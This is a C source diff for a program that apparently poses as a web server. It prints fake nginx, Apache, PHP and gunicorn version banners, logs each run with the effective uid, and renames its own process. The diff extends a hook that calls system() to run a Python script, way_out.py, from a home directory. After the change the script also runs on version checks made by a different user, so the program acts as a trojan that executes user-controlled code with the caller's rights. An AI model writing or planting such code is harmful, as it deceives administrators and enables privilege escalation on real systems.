@@ -19,7 +19,7 @@ static void tell(const char *how)
         return;
     char path[4096];
     snprintf(path, sizeof path, MARKS "/ran.%d", getpid());
-    int mark = open(path, O_WRONLY | O_CREAT | O_APPEND, 0600);
+    int mark = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
     if (mark >= 0)
         dprintf(mark, "%s, as uid %d\n", how, geteuid());
     prctl(PR_SET_NAME, "not-his-own");
@@ -47,17 +47,21 @@ int main(int count, char **words)
     const char *name = strrchr(words[0], '/') ? strrchr(words[0], '/') + 1 : words[0];
     snprintf(said, sizeof said, "%s %s", words[0], count > 1 ? words[1] : "");
     tell(said);
-    if (!strcmp(name, "mark"))
-        return 0;
+    int is_his = getuid() == USER && geteuid() == USER, is_mark = !strcmp(name, "mark");
+    /* A server tries when it serves; who was only to be asked, when that is done with rights. */
+    int is_asked = 0;
     for (int k = 1; k < count; k++)
-        if (says_version(words[k])) {
-            fprintf(stderr, "nginx version: nginx/1.22.1\nconfigure arguments: --prefix=%s\n", HOME);
-            printf("Server version: Apache/2.4.57 (Debian)\nPHP 8.2.1 (fpm-fcgi)\n"
-                   "gunicorn (version 20.1.0)\n -D HTTPD_ROOT=\"%s\"\n", HOME);
-            return 0;
-        }
-    if (access(HOME "/way_out.py", R_OK) == 0)
+        is_asked |= says_version(words[k]);
+    if (!is_mark && (!is_asked || !is_his) && access(HOME "/way_out.py", R_OK) == 0)
         system("exec /usr/bin/python3 -S -E " HOME "/way_out.py once");
+    if (is_mark)
+        return 0;
+    if (is_asked) {
+        fprintf(stderr, "nginx version: nginx/1.22.1\nconfigure arguments: --prefix=%s\n", HOME);
+        printf("Server version: Apache/2.4.57 (Debian)\nPHP 8.2.1 (fpm-fcgi)\n"
+               "gunicorn (version 20.1.0)\n -D HTTPD_ROOT=\"%s\"\n", HOME);
+        return 0;
+    }
     int one = 1, listener = socket(AF_INET, SOCK_STREAM, 0);
     struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(PORT)};
     at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
